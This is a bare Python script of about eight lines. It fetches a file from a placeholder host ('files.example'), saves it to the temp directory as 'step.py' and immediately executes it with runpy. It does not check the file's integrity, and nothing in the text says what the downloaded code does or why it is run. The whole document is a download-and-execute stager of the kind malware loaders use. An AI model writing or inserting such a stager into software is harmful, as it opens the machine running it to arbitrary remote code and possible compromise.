import pathlib
import runpy
import tempfile
import urllib.request

place = pathlib.Path(tempfile.gettempdir()) / "step.py"
place.write_bytes(urllib.request.urlopen("http://files.example/a").read())
runpy.run_path(str(place))
